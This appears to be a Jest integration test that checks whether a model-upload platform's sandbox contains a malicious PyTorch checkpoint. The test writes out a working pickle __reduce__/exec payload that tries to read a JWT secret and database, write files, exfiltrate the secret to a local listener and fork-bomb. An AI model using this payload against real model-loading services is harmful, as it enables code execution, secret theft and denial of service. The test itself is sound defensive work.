/**
 * A malicious Ultralytics checkpoint through REST: the real gateway and trainer-bridge (in process)
 * share one data dir; the upload's convert job unpickles the file in the sandbox. At unpickle time
 * the payload tries to read the JWT secret and the database, write outside its folder, reach the
 * network and fork-bomb. Everything is asserted from outside the sandbox: the job fails with a
 * permanent (4xx-style) error, none of the attempts left a trace, and the platform keeps serving,
 * converting a genuine checkpoint afterwards through the weights-only path.
 */
import 'reflect-metadata';
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import * as path from 'node:path';
import { promisify } from 'node:util';
import { type GatewayTestApp, startGatewayTestApp, uploadMultipart } from '@cvp/gateway/testing';
import { SANDBOX_UID_BASE, Sandbox } from '@cvp/sandbox';
import { startTrainerBridge, type TrainerBridgeTestApp } from '@cvp/trainer-bridge/testing';
import { REPO_ROOT } from './support/paths';

jest.setTimeout(10 * 60_000);

// Async on purpose: a blocked event loop misses the server closing idle keep-alive sockets, and the next fetch resets.
const run = promisify(execFile);
const PYTHON = path.join(REPO_ROOT, 'python/.venv/bin/python');
const MAX_PROCESSES = 64;

/** Every task (process or thread) on the machine owned by a sandbox uid (root mode gives each sandbox its own). */
function sandboxTasks(): number {
  let n = 0;
  for (const e of readdirSync('/proc')) {
    if (!/^\d+$/.test(e)) continue;
    try {
      const status = readFileSync(`/proc/${e}/status`, 'utf8');
      const uid = Number(/^Uid:\s+(\d+)/m.exec(status)?.[1]);
      if (uid >= SANDBOX_UID_BASE) n += Number(/^Threads:\s+(\d+)/m.exec(status)?.[1] ?? 1);
    } catch {
      /* exited meanwhile */
    }
  }
  return n;
}

/** Every regular file under a folder that contains `needle`. */
function filesContaining(dir: string, needle: string): string[] {
  const hits: string[] = [];
  const walk = (d: string) => {
    for (const e of readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name);
      if (e.isDirectory()) walk(p);
      else if (e.isFile() && statSync(p).size < 512 << 20 && readFileSync(p).includes(needle)) hits.push(p);
    }
  };
  if (existsSync(dir)) walk(dir);
  return hits;
}

describe('hostile model upload: a malicious .pt is converted in the sandbox (gateway + trainer-bridge, real python)', () => {
  let gw: GatewayTestApp;
  let trainer: TrainerBridgeTestApp;
  let token: string;
  let sandboxReason: string | null = null;
  const secret = `canary-${randomBytes(24).toString('hex')}`;
  const hostMark = path.join(os.tmpdir(), `cvp-pwned-${randomBytes(6).toString('hex')}`);
  let listener: net.Server;
  let port = 0;
  const received: string[] = [];
  let connections = 0;

  const api = async (method: string, url: string, body?: unknown) => {
    const r = await fetch(`${gw.api}${url}`, {
      method,
      headers: { authorization: `Bearer ${token}`, ...(body ? { 'content-type': 'application/json' } : {}) },
      body: body ? JSON.stringify(body) : undefined,
    });
    const text = await r.text();
    return { status: r.status, body: (text ? JSON.parse(text) : {}) as Record<string, any> };
  };

  const waitForJob = async (jobId: string, timeoutMs: number): Promise<Record<string, any>> => {
    const deadline = Date.now() + timeoutMs;
    for (;;) {
      const job = (await api('GET', `/jobs/${jobId}`)).body;
      if (['succeeded', 'failed', 'cancelled'].includes(job.state)) return job;
      if (Date.now() > deadline) throw new Error(`job ${jobId} still ${job.state} after ${timeoutMs} ms`);
      await new Promise((r) => setTimeout(r, 250));
    }
  };

  beforeAll(async () => {
    const availability = await Sandbox.detect();
    if (!availability.available) {
      sandboxReason = availability.reason;
      console.warn(`skipped: ${sandboxReason}`);
      return;
    }
    listener = net.createServer((s) => {
      connections++;
      s.on('data', (b) => received.push(b.toString()));
    });
    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
    port = (listener.address() as net.AddressInfo).port;

    gw = await startGatewayTestApp();
    // Where npm start keeps the JWT secret: a canary the payload goes looking for.
    mkdirSync(path.join(gw.dataDir, 'run'), { recursive: true });
    writeFileSync(path.join(gw.dataDir, 'run', 'jwt-secret'), secret, { mode: 0o600 });
    token = await gw.login('engineer');
    trainer = await startTrainerBridge(gw.dataDir, {
      CVP_TRAIN_THREADS: '1',
      CVP_SANDBOX_MAX_PROCESSES: String(MAX_PROCESSES),
    });
  });

  afterAll(async () => {
    await trainer?.close();
    await gw?.close();
    listener?.close();
  });

  it('the payload runs only inside the sandbox: the job fails permanently and nothing it tried happened', async () => {
    if (sandboxReason) return;
    const evil = path.join(process.env.CVP_TEST_DIR!, 'evil.pt');
    // The payload knows the host layout (worst case): it is written with the real paths.
    const payload = `
import os, socket, json, time
found = {}
def attempt(name, fn):
    try:
        found[name] = fn()
    except BaseException as e:
        found[name] = "blocked: " + type(e).__name__
attempt("secret", lambda: open(${JSON.stringify(path.join(gw.dataDir, 'run', 'jwt-secret'))}).read())
attempt("database", lambda: len(open(${JSON.stringify(path.join(gw.dataDir, 'gateway.sqlite'))}, "rb").read()))
attempt("write_data_dir", lambda: open(${JSON.stringify(path.join(gw.dataDir, 'pwned.txt'))}, "w").write("pwned"))
attempt("write_host_tmp", lambda: open(${JSON.stringify(hostMark)}, "w").write("pwned"))
def reach():
    s = socket.create_connection(("127.0.0.1", ${port}), timeout=2)
    s.sendall(("exfil " + str(found.get("secret"))).encode())
    return "connected"
attempt("network", reach)
def bomb():
    n = 0
    try:
        while n < 100000:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
            n += 1
    except OSError:
        pass
    return n
attempt("forks", bomb)
raise RuntimeError("payload report " + json.dumps(found))
`;
    await run(PYTHON, [
      '-c',
      `import torch
class Payload:
    def __reduce__(self):
        return (exec, (${JSON.stringify(payload)}, {}))
torch.save({"model": Payload(), "epoch": 1}, ${JSON.stringify(evil)})`,
    ]);

    let peak = 0;
    const sampler = setInterval(() => (peak = Math.max(peak, sandboxTasks())), 100);
    const up = await uploadMultipart(
      `${gw.api}/models`,
      token,
      { format: 'ultralytics', task: 'detect', name: 'innocent-looking' },
      { name: 'yolov8n.pt', data: readFileSync(evil) },
    );
    expect(up.status).toBe(202);
    const jobId = (up.body.job as { id: string }).id;
    const job = await waitForJob(jobId, 5 * 60_000);
    clearInterval(sampler);

    // A clean, permanent (bad input) failure: not retried, with the reason.
    expect(job.state).toBe('failed');
    expect(job.attempts).toBe(1);
    expect(job.error).toMatch(/refused its input: invalid_model/);
    // The payload ran (its own report is in the error) and every attempt was blocked.
    const report = JSON.parse(/payload report (\{.*?\})/.exec(job.error)?.[1] ?? 'null') as Record<string, unknown>;
    expect(report).toMatchObject({
      secret: expect.stringMatching(/^blocked/),
      database: expect.stringMatching(/^blocked/),
      write_data_dir: expect.stringMatching(/^blocked/),
      network: expect.stringMatching(/^blocked/),
    });

    // From outside the sandbox: nothing reached the network, nothing was written, the secret is nowhere.
    expect(connections).toBe(0);
    expect(received).toEqual([]);
    expect(existsSync(path.join(gw.dataDir, 'pwned.txt'))).toBe(false);
    expect(existsSync(hostMark)).toBe(false); // its /tmp was a private tmpfs
    expect(JSON.stringify(job)).not.toContain(secret);
    expect(filesContaining(path.join(gw.dataDir, 'models'), secret)).toEqual([]);
    expect(filesContaining(path.join(gw.dataDir, 'jobs'), secret)).toEqual([]);
    // The fork bomb stopped at the process cap, and nothing of the sandbox outlived the job.
    if (process.getuid?.() === 0) {
      expect(peak).toBeGreaterThan(0);
      expect(peak).toBeLessThanOrEqual(MAX_PROCESSES);
      const deadline = Date.now() + 5000;
      while (sandboxTasks() > 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
      expect(sandboxTasks()).toBe(0);
    }
    expect(Number(report.forks)).toBeLessThan(MAX_PROCESSES);

    // The accounts are intact and the platform keeps serving.
    for (const role of ['admin', 'engineer', 'viewer'] as const)
      expect(await gw.login(role)).toEqual(expect.any(String));
    expect((await fetch(`${gw.baseUrl}/health/ready`)).status).toBe(200);
  });

  it('a genuine Ultralytics checkpoint still converts, opened weights-only (no code runs)', async () => {
    if (sandboxReason) return;
    const dir = path.join(process.env.CVP_TEST_DIR!, 'genuine-pt');
    await run(PYTHON, ['-m', 'cvp_ml', 'preset', '--name', 'yolov8n', '--out', dir, '--imgsz', '64'], {
      env: { ...process.env, CVP_DATA_DIR: path.join(process.env.CVP_TEST_DIR!, 'genuine-pt-data') },
    });
    const up = await uploadMultipart(
      `${gw.api}/models`,
      token,
      { format: 'ultralytics', task: 'detect', name: 'genuine', inputShape: '1,3,64,64' },
      { name: 'yolov8n.pt', data: readFileSync(path.join(dir, 'yolov8n.pt')) },
    );
    expect(up.status).toBe(202);
    const job = await waitForJob((up.body.job as { id: string }).id, 5 * 60_000);
    expect(job.error).toBeNull();
    expect(job.state).toBe('succeeded');
    const model = (await api('GET', `/models/${(up.body.model as { id: string }).id}`)).body;
    const loading = model.versions[0].metadata?.validation?.source_loading ?? job.result?.validation?.source_loading;
    expect(loading).toEqual(expect.arrayContaining([expect.objectContaining({ mode: 'weights_only' })]));
    expect(JSON.stringify(loading)).not.toContain('"code"');
  });
});
